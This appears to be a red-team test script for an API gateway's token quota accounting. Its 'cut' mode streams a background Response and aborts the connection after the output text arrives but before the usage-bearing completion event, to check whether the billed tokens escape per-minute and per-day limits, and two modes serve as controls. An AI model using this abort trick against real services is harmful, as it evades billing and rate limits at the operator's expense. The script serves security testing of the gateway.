// R14 target: a background Response whose input the origin adds (input_file by file_url: 20,000 input tokens billed) is
// retrieved as a stream, GET /v1/responses/{id}?stream=true, and the client hangs up once it has the text
// (response.output_text.done / output_item.done), before response.completed (which carries the usage).
// MODE=cut (attack) | full (control: the stream read to its end) | json (control: plain GET). N rounds. Key tier "small".
import { req, setTier, info, sleep, G } from "./lib14.mjs";
const MODE = process.env.MODE ?? "cut"; const N = +(process.env.N ?? 3); const TIER = process.env.TIER ?? "small";
const KEY = `sk-rt14-cutget-${MODE}-${Date.now().toString(36)}`; await setTier(KEY, TIER);
const show = async (tag) => { const i = await info(KEY); const u = Object.fromEntries(i.usage.map((x) => [x.name, x.remaining])); console.log(`${tag}: remaining tpm=${u.tpm} tpd=${u.tpd} conc=${u.concurrency} inFlight=${i.inFlight}`); return u; };
await show("fresh key");
let billed = 0, textChars = 0, served = 0;
for (let i = 0; i < N; i++) {
  let r; for (let t = 0; t < 3; t++) { r = await req("POST", "/v1/responses", { key: KEY, body: { model: "gpt-4o@bgms=800", input: [{ role: "user", content: [{ type: "input_file", file_url: `https://example.com/doc${i}.pdf` }, { type: "input_text", text: "Summarise." }] }], max_output_tokens: 100, background: true } }); if (r.status !== 429) break; await sleep(1000); }
  if (r.status !== 200) { console.log(`round ${i}: POST ${r.status} ${r.text.slice(0, 160)}`); continue; }
  const id = JSON.parse(r.text).id; await sleep(1200);
  if (MODE === "json") { const g = await req("GET", `/v1/responses/${id}`, { key: KEY }); const j = JSON.parse(g.text); console.log(`round ${i}: GET ${g.status} ${j.status} usage ${j.usage?.total_tokens}`); if (g.status === 200) { served++; billed += j.usage.total_tokens; textChars += j.output[0].content[0].text.length; } }
  else {
    const ac = new AbortController(); const res = await fetch(`${G}/v1/responses/${id}?stream=true`, { headers: { authorization: "Bearer " + KEY }, signal: ac.signal });
    if (res.status !== 200) { console.log(`round ${i}: GET stream ${res.status} ${(await res.text()).slice(0, 160)}`); continue; }
    const rd = res.body.getReader(); let buf = "", text = null, usage = null; const td = new TextDecoder(); const t0 = Date.now();
    try { while (Date.now() - t0 < 15000) { const { value, done } = await rd.read(); if (done) break; buf += td.decode(value, { stream: true });
      for (const m of buf.matchAll(/data: (.*)\n/g)) { const e = JSON.parse(m[1]); if (e.type === "response.output_text.done") text = e.text; if (e.type === "response.completed") usage = e.response.usage; }
      if (MODE === "cut" && text !== null) { ac.abort(); break; } if (usage) break; } } catch (e) { if (e.name !== "AbortError") throw e; }
    if (MODE === "cut") ac.abort();
    served++; textChars += text?.length ?? 0; billed += 20154; // what the origin billed for it (input 20,054 + output 100), known from the JSON control
    console.log(`round ${i}: stream ${MODE}: got text ${text?.length} chars, usage seen by client ${JSON.stringify(usage)}`);
  }
  await sleep(1500); await show(`after round ${i}`);
}
await sleep(2500); await show("end");
console.log(`RESULT ${MODE}: ${served} answers (${textChars} chars of text) read by the client; origin billed ~${billed} tokens (tpm 5,000, tpd 20,000)`);
